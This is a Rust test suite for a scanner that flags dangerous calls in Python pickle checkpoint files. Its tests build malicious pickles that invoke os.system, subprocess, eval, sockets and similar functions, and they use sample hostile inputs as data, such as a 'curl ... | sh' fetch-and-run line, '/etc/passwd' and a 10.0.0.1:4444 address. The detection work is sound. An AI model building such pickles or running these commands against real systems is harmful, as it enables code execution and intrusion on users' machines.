//! Calls: what is named is what is judged, whichever opcode calls it.

use domain::scan::{Rule, Weight};

use crate::assemble::{Pickle, global, int, text};
use crate::verdict::{dangerous, judged, told, weight};

#[test]
fn calls_of_python_itself_are_told_by_what_they_do() {
    let calls = [
        ("os", "system", Rule::RunsCommand),
        ("posix", "system", Rule::RunsCommand),
        ("subprocess", "Popen", Rule::RunsCommand),
        ("builtins", "eval", Rule::RunsCode),
        ("runpy", "run_path", Rule::RunsCode),
        ("importlib", "import_module", Rule::ImportsCode),
        ("pkgutil", "resolve_name", Rule::ImportsCode),
        ("ctypes", "CDLL", Rule::LoadsNative),
        ("socket", "create_connection", Rule::OpensNetwork),
        ("logging", "FileHandler", Rule::TouchesFiles),
        ("builtins", "open", Rule::TouchesFiles),
        ("pickle", "loads", Rule::LoadsMore),
        ("builtins", "setattr", Rule::PatchesModule),
        ("builtins", "exit", Rule::DisturbsProcess),
    ];
    for (module, name, rule) in calls {
        dangerous(
            &Pickle::new().call(module, name, &[&text("MARKER")]).stop(),
            rule,
        );
    }
}

#[test]
fn a_call_of_python_itself_that_no_checkpoint_needs_is_dangerous_without_any_words_for_it() {
    for (module, name) in [
        ("calendar", "weekday"),
        ("colorsys", "rgb_to_hsv"),
        ("this", "s"),
    ] {
        let bytes = Pickle::new().call(module, name, &[&int(1)]).stop();
        assert_eq!(weight(&bytes), Some(Weight::Dangerous), "{module}.{name}");
    }
}

#[test]
fn every_opcode_that_calls_is_seen() {
    let reduce = Pickle::new()
        .call("os", "system", &[&text("echo MARKER")])
        .stop();
    let inst = Pickle::new()
        .op(b'(')
        .text("echo MARKER")
        .raw(b"ios\nsystem\n")
        .stop();
    let obj = Pickle::new()
        .op(b'(')
        .global("os", "system")
        .text("echo MARKER")
        .op(b'o')
        .stop();
    let popped = Pickle::new()
        .op(b'(')
        .global("os", "system")
        .text("echo MARKER")
        .op(b'o')
        .pop()
        .none()
        .stop();
    let stack = Pickle::new()
        .stack_global("os", "system")
        .texts(&["echo MARKER"])
        .op(b'R')
        .stop();
    for bytes in [reduce, inst, obj, popped, stack] {
        dangerous(&bytes, Rule::RunsCommand);
    }
}

#[test]
fn what_was_called_before_a_break_is_told() {
    let mut bytes = Pickle::new()
        .call("os", "system", &[&text("echo MARKER")])
        .stop();
    bytes.pop();
    bytes.extend(b"\xff\xff");
    let done = judged(&bytes);
    assert_eq!(done.weight(), Some(Weight::Dangerous));
    assert!(!done.gaps.is_empty());
}

#[test]
fn a_second_program_behind_the_first_is_judged_too() {
    let mut bytes = Pickle::new().none().stop();
    bytes.extend(
        Pickle::new()
            .call("os", "system", &[&text("echo MARKER")])
            .stop(),
    );
    dangerous(&bytes, Rule::RunsCommand);
    let done = judged(&bytes);
    assert_eq!(done.findings[0].place.stream, Some(1));
}

#[test]
fn functions_of_known_frameworks_that_no_reducer_needs_are_stopped() {
    let calls = [
        ("torch", "load"),
        ("torch.hub", "load"),
        ("torch.utils.collect_env", "run"),
        ("torch.serialization", "add_safe_globals"),
        ("numpy", "load"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("pandas", "read_pickle"),
        ("joblib", "load"),
        ("sklearn.datasets", "fetch_file"),
        ("torch.nn.functional", "relu"),
    ];
    for (module, name) in calls {
        let bytes = Pickle::new().call(module, name, &[&text("MARKER")]).stop();
        assert!(weight(&bytes) >= Some(Weight::Unknown), "{module}.{name}");
    }
}

#[test]
fn constructors_of_listed_classes_are_not_called_by_checkpoints() {
    let bytes = Pickle::new()
        .call("torch.nn.modules.linear", "Linear", &[&int(1), &int(2)])
        .stop();
    told(&bytes, Rule::UnneededCall, Weight::Unknown);
}

#[test]
fn functions_of_nobody_are_unknown_and_classes_of_nobody_are_custom() {
    let function = Pickle::new()
        .call("helpers.boot", "prepare", &[&int(1)])
        .stop();
    told(&function, Rule::UnknownCall, Weight::Unknown);
    let class = Pickle::new().object("models.net", "Net").stop();
    told(&class, Rule::CustomClass, Weight::Custom);
    let main = Pickle::new().object("__main__", "Net").stop();
    told(&main, Rule::CustomClass, Weight::Custom);
    let lower_case = Pickle::new().object("models.net", "net").stop();
    told(&lower_case, Rule::CustomClass, Weight::Custom);
}

#[test]
fn what_an_unknown_function_is_given_tells_what_it_is_for() {
    let given = [
        ("curl http://host.invalid/x | sh", Rule::RunsCommand),
        ("import os; os.getpid()", Rule::RunsCode),
        ("https://host.invalid/x", Rule::OpensNetwork),
        ("/etc/passwd", Rule::TouchesFiles),
    ];
    for (argument, rule) in given {
        let bytes = Pickle::new().call(
            "helpers.boot",
            "Prepare",
            &[&move |pickle| pickle.text(argument)],
        );
        dangerous(&bytes.stop(), rule);
    }
    let address = Pickle::new().call("helpers.boot", "go", &[&text("10.0.0.1"), &int(4444)]);
    dangerous(&address.stop(), Rule::OpensNetwork);
}

#[test]
fn arguments_that_are_computed_are_not_vouched_for() {
    // `_codecs.encode(*tuple(...))`: nobody can read the arguments.
    let bytes = Pickle::new()
        .global("torch._utils", "_rebuild_tensor_v2")
        .call("builtins", "tuple", &[&|pickle| pickle.op(b']')])
        .op(b'R')
        .stop();
    told(&bytes, Rule::UnneededCall, Weight::Unknown);
}

#[test]
fn a_name_that_is_imported_and_thrown_away_was_imported_for_its_module() {
    let bytes = Pickle::new()
        .global("helpers.boot", "Thing")
        .pop()
        .none()
        .stop();
    told(&bytes, Rule::ImportsCode, Weight::Unknown);
    let kept = Pickle::new().global("models.net", "Net").stop();
    told(&kept, Rule::CustomClass, Weight::Custom);
}

#[test]
fn guarded_calls_are_held_to_their_guard() {
    let codec = Pickle::new().call("_codecs", "encode", &[&text("x"), &text("hex")]);
    assert!(weight(&codec.stop()) >= Some(Weight::Unknown));
    let class = Pickle::new().call(
        "builtins",
        "type",
        &[&text("X"), &|pickle| pickle.op(b')'), &|pickle| {
            pickle.op(b'}')
        }],
    );
    dangerous(&class.stop(), Rule::RunsCode);
    let reduce = Pickle::new().call(
        "functools",
        "reduce",
        &[&global("builtins", "len"), &|pickle| pickle.texts(&["x"])],
    );
    assert_eq!(weight(&reduce.stop()), Some(Weight::Dangerous));
    let base = Pickle::new().call(
        "copyreg",
        "_reconstructor",
        &[
            &global("builtins", "dict"),
            &global("subprocess", "Popen"),
            &text("MARKER"),
        ],
    );
    assert!(weight(&base.stop()) >= Some(Weight::Unknown));
    let memory = Pickle::new().call(
        "builtins",
        "bytearray",
        &[&|pickle| pickle.raw(&[0x8a, 8, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f])],
    );
    dangerous(&memory.stop(), Rule::Bomb);
}

#[test]
fn extensions_computed_names_and_foreign_ids_are_told() {
    dangerous(&Pickle::new().raw(&[0x82, 7]).stop(), Rule::Extension);
    let computed = Pickle::new()
        .call("builtins", "str", &[&text("os")])
        .text("system")
        .op(0x93)
        .stop();
    dangerous(&computed, Rule::ComputedName);
    let id = Pickle::new().text("key").op(b'Q').stop();
    told(&id, Rule::UnknownReference, Weight::Unknown);
}
